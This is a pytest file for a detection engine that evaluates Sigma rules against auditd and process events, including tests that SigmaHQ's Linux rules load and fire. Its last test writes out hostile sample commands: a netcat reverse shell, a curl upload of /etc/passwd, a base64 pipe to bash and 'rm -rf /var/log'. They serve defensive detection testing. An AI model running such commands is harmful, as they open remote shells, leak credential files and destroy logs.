"""Which events answer which logsource, and what is said of the rest. SigmaHQ's rules, all of them."""

from __future__ import annotations

import os
from pathlib import Path

import pytest

from agentwatch.rules import logsource
from agentwatch.rules.engine import Engine
from agentwatch.rules.load import load_rules
from agentwatch.rules.model import RuleSet
from tests.rules.helpers import event, judge, rule, rules, verdict

SIGMA = Path(os.environ.get("AGENTWATCH_SIGMA_DIR") or Path(__file__).parents[3] / "shared" / "sigma")


def audit(detection: str) -> RuleSet:
    """A rule for the auditd service."""
    return rules(rule(detection).replace("category: process_creation", "service: auditd"))


def judge_audit(detection: str, **fields: str | tuple[str, ...]) -> bool | None:
    """The verdict of an auditd rule on the start of a process."""
    return verdict(Engine(audit(detection)).evaluate(event(values=fields)))


def test_execve_is_the_start_of_a_process_and_its_arguments() -> None:
    detection = "s:\n  type: EXECVE\n  a0: 'zip'\n  a1|startswith: '-r'\n  a2: 7\ncondition: s"
    assert judge_audit(detection, Argv=("zip", "-r9", "7")) is True
    assert judge_audit(detection, Argv=("zip", "-r9")) is False
    assert audit(detection).rules[0].category == "process_creation"


def test_keywords_of_auditd_stand_in_the_command_line() -> None:
    detection = "s:\n  type: EXECVE\nk:\n  '|all':\n    - 'grep'\n    - 'password'\ncondition: s and k"
    assert judge_audit(detection, CommandLine="grep -r password /") is True
    assert judge_audit(detection, CommandLine="grep", CurrentDirectory="/password") is False


def test_a_system_call_that_executes_is_the_start_of_a_process() -> None:
    detection = "s:\n  type: SYSCALL\n  SYSCALL: ['execve', 'execveat']\n  exe|endswith: '/x'\ncondition: s"
    assert judge_audit(detection, Image="/bin/x") is True
    assert judge_audit("s:\n  type: SYSCALL\n  comm: split\ncondition: s", Image="/usr/bin/split") is True
    assert judge_audit("s:\n  type: SYSCALL\n  comm: split\ncondition: s", Image="/usr/bin/xsplit") is False


def test_one_rule_can_be_answered_from_several_categories() -> None:
    detection = "p:\n  type: PATH\n  name: /etc/issue\ne:\n  type: EXECVE\n  a0: uname\ncondition: 1 of them"
    found = audit(detection)
    assert found.rules[0].conditions.keys() == {"process_creation", "file_event"}
    engine = Engine(found)
    assert verdict(engine.evaluate(event(Argv=("uname",)))) is True
    assert verdict(engine.evaluate(event("file_event", TargetFilename="/etc/issue"))) is True
    assert verdict(engine.evaluate(event("file_event", TargetFilename="uname"))) is False


def test_what_no_event_tells_is_named_and_the_rest_is_evaluated() -> None:
    found = audit("a:\n  SYSCALL: mknod\nb:\n  type: EXECVE\n  a0: x\ncondition: 1 of them")
    assert found.rules[0].partial[0] == "auditd system call mknod: no event tells it"
    assert not found.refused


@pytest.mark.parametrize(
    ("detection", "reason"),
    [
        ("s:\n  type: SERVICE_STOP\ncondition: s", "auditd record type SERVICE_STOP: no event tells it"),
        ("s:\n  key: mine\ncondition: s", "auditd field key: no event tells it"),
        ("s:\n  type|contains: EXEC\ncondition: s", "compared by contains"),
    ],
)
def test_what_cannot_be_answered_at_all_is_refused(detection: str, reason: str) -> None:
    found = audit(detection)
    assert not found.rules
    assert reason in found.refused[0].reason


@pytest.mark.parametrize(
    ("line", "reason"),
    [
        ("product: windows", "product windows"),
        ("product: linux\n  service: cron", "service cron"),
        ("product: linux\n  category: registry_set", "category registry_set"),
    ],
)
def test_other_logsources_are_refused(line: str, reason: str) -> None:
    text = rule("s:\n  User: x\ncondition: s").replace("category: process_creation\n  product: linux", line)
    found = rules(text)
    assert not found.rules and reason in found.refused[0].reason


def test_a_field_that_no_event_has_is_named() -> None:
    found = rules(rule("s:\n  - Hashes|contains: x\n  - User: root\ncondition: s"))
    assert found.rules[0].partial == ("field Hashes: events of category process_creation have none",)
    assert rules(rule("s:\n  Hashes|contains: x\ncondition: s")).refused


def test_absence_of_a_field_that_no_event_has_holds() -> None:
    assert judge("s:\n  Hashes: null\n  User: root\ncondition: s", event(User="root")) is True
    assert judge("s:\n  Hashes|exists: false\n  User: root\ncondition: s", event(User="root")) is True
    assert judge("s:\n  User: root\nf:\n  Hashes: x\ncondition: s and not f", event(User="root")) is True


def test_rules_without_category_search_command_lines() -> None:
    text = rule("k:\n  - 'evil'\ncondition: k").replace("  category: process_creation\n", "")
    found = rules(text)
    assert "command lines are searched" in found.rules[0].partial[0]
    assert verdict(Engine(found).evaluate(event(CommandLine="x evil"))) is True
    assert verdict(Engine(found).evaluate(event(CurrentDirectory="/evil"))) is False


def test_what_is_awaited_is_said_until_a_source_tells_it() -> None:
    for category, names in logsource.AWAITED.items():
        for name in names:
            atom = ("atom", name, "eq", ("x",))
            told = name in logsource._TOLD.get(category, ())
            assert (logsource.awaited(category, atom) is None) == told


@pytest.fixture(scope="module")
def found(tmp_path_factory: pytest.TempPathFactory) -> RuleSet:
    """SigmaHQ's Linux rules, loaded unchanged."""
    return load_rules([SIGMA / "linux"], cache=tmp_path_factory.mktemp("cache"))


@pytest.mark.skipif(not SIGMA.is_dir(), reason="SigmaHQ's rules are not here; see AGENTWATCH_SIGMA_DIR")
class TestSigmaHQ:
    """All of SigmaHQ's Linux rules are accounted for."""

    def test_every_file_is_accounted_for(self, found: RuleSet) -> None:
        files = {str(file) for file in (SIGMA / "linux").rglob("*.yml")}
        assert {rule.file for rule in found.rules} | {rule.file for rule in found.refused} == files
        assert len(found.rules) + len(found.refused) == len(files)

    def test_what_is_refused_has_a_reason(self, found: RuleSet) -> None:
        assert all(refused.reason for refused in found.refused)
        assert len(found.refused) <= 15

    def test_standard_categories_are_evaluated(self, found: RuleSet) -> None:
        refused = {refused.title for refused in found.refused if "/auditd/" not in refused.file}
        standard = {"process_creation", "network_connection", "file_event"}
        of_standard = {rule.title for rule in found.rules if standard & rule.conditions.keys()}
        assert len(of_standard) >= 195
        # Both ask for the login id of Sysmon's events; the others are for logs of services.
        assert {title for title in refused if "OMIGOD" in title} == {
            "OMIGOD SCX RunAsProvider ExecuteScript",
            "OMIGOD SCX RunAsProvider ExecuteShellCommand",
        }

    @pytest.mark.parametrize(
        ("title", "image", "command"),
        [
            ("Linux Base64 Encoded Pipe to Shell", "/bin/bash", "bash -c base64 -w0 x | bash"),
            ("Suspicious Curl File Upload - Linux", "/usr/bin/curl", "curl -F data=@/etc/passwd x"),
            ("Linux Logs Clearing Attempts", "/usr/bin/rm", "rm -rf /var/log"),
            ("Linux Crypto Mining Indicators", "/x", "x --cpu-priority=5"),
            ("Potential Netcat Reverse Shell Execution", "/usr/bin/nc", "nc -e /bin/sh 1.2.3.4 1"),
        ],
    )
    def test_known_rules_hit(self, found: RuleSet, title: str, image: str, command: str) -> None:
        of = event(Image=image, CommandLine=command, Argv=tuple(command.split()), User="root")
        assert title in {match.rule.title for match in Engine(found).evaluate(of)}
